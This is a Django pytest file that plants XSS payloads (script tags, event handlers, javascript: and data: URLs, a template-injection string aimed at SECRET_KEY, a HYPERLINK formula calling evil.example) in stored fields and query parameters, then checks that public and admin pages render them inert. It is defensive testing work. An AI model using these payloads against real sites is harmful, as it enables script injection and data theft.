"""Stored and reflected XSS: payloads in every text field, then every public surface."""

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.urls import reverse

from .checks import html_problems, response_problems
from .surfaces import body, build_entities, public_urls

MARK = "xq7z"
PAYLOADS = [
    f'<script>alert("{MARK}")</script>',
    f'"><img src=x onerror=alert("{MARK}")>',
    f"'><svg onload=alert('{MARK}')>",
    f'javascript:alert("{MARK}")',
    f'" onmouseover="alert(\'{MARK}\')" x="',
    f'</title></textarea></script><script>alert("{MARK}")</script>',
    f"{{{{ settings.SECRET_KEY }}}} {{% debug %}} {MARK}",
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f'=HYPERLINK("http://evil.example/?{MARK}","x")',
    f'<iframe src="javascript:alert(`{MARK}`)"></iframe><style>body{{}}</style>',
]
URL_PAYLOADS = [
    f'javascript:alert("{MARK}")',
    f" JaVaScRiPt:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f'https://example.org/"><script>alert("{MARK}")</script>',
]

pytestmark = pytest.mark.django_db


@pytest.fixture
def poisoned():
    instances = []
    for i, payload in enumerate(PAYLOADS):
        url = URL_PAYLOADS[i % len(URL_PAYLOADS)]
        instances += build_entities(payload, url, f"xss{i}")
    return instances


def assert_safe(client, urls):
    failures = {}
    for url in urls:
        response = client.get(url)
        text = body(response)
        problems = response_problems(response, text)
        if settings.SECRET_KEY in text:
            problems.append("SECRET_KEY rendered")
        if problems:
            failures[url] = sorted(set(problems))
    assert not failures, failures


def test_every_public_surface_renders_payloads_inert(client, poisoned):
    urls = public_urls(client, poisoned, queries=[MARK, *PAYLOADS[:3]])
    # The entity pages and their twins were reached, not just the home page.
    assert any(f"xss0-{obj._meta.model_name}" in u for u in urls for obj in poisoned[:1])
    assert len(urls) > len(poisoned)
    assert_safe(client, urls)


def test_payloads_show_as_text(client, poisoned):
    agreement = next(o for o in poisoned if o._meta.model_name == "agreement")
    text = body(client.get(agreement.get_absolute_url()))
    assert "&lt;script&gt;alert(&quot;xq7z&quot;)&lt;/script&gt;" in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reflected_query_parameters_are_inert(client, payload):
    from .surfaces import public_routes

    for route in public_routes():
        if route.params:
            continue
        for name in ("q", "page", "sort", "format", "kind"):
            url = reverse(route.name)
            response = client.get(url, {name: payload})
            assert response.status_code < 500, url
            problems = response_problems(response, body(response))
            assert not problems, (url, name, problems)


def test_admin_change_lists_render_payloads_inert(client, poisoned):
    user = get_user_model().objects.create_superuser("root", "root@example.org", "x")
    client.force_login(user)
    failures = {}
    checked = 0
    for model in admin.site._registry:
        if model._meta.app_label not in {"cooperation", "auth"}:
            continue
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        response = client.get(url)
        assert response.status_code == 200, url
        checked += 1
        # The admin's own pages use inline styles; only injected markup matters here.
        problems = [p for p in html_problems(body(response)) if "style" not in p]
        if problems:
            failures[url] = problems
    assert checked
    assert not failures, failures


def test_admin_change_forms_and_mentions_render_payloads_inert(client, poisoned):
    # What curators open: each entry's change form (related lists, URL widgets,
    # inline citations) and the mentions page, which quotes the source's sentences.
    user = get_user_model().objects.create_superuser("root", "root@example.org", "x")
    client.force_login(user)
    urls = []
    for obj in poisoned:
        meta = obj._meta
        if obj.__class__ in admin.site._registry:
            urls.append(reverse(f"admin:{meta.app_label}_{meta.model_name}_change", args=[obj.pk]))
        if meta.model_name == "source":
            urls.append(reverse("admin:cooperation_source_mentions", args=[obj.pk]))
    assert any("/mentions/" in url for url in urls)
    failures = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        if problems := html_problems(body(response)):
            failures[url] = problems
    assert not failures, failures


@pytest.mark.parametrize(
    "payload", [p for p in PAYLOADS if "<" in p or "onmouseover" in p or "javascript" in p]
)
def test_the_inspector_flags_each_payload_left_unescaped(payload):
    # Guards the guard: pasted raw into an attribute or text, each payload is caught.
    page = f'<p title="{payload}">{payload}</p><a href="{payload}">x</a>'
    assert html_problems(page), payload


def test_the_inspector_reads_svg_documents():
    class Svg:
        headers = {"Content-Type": "image/svg+xml", "X-Content-Type-Options": "nosniff"}

    picture = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>{MARK}</text></svg>'
    assert response_problems(Svg(), picture)
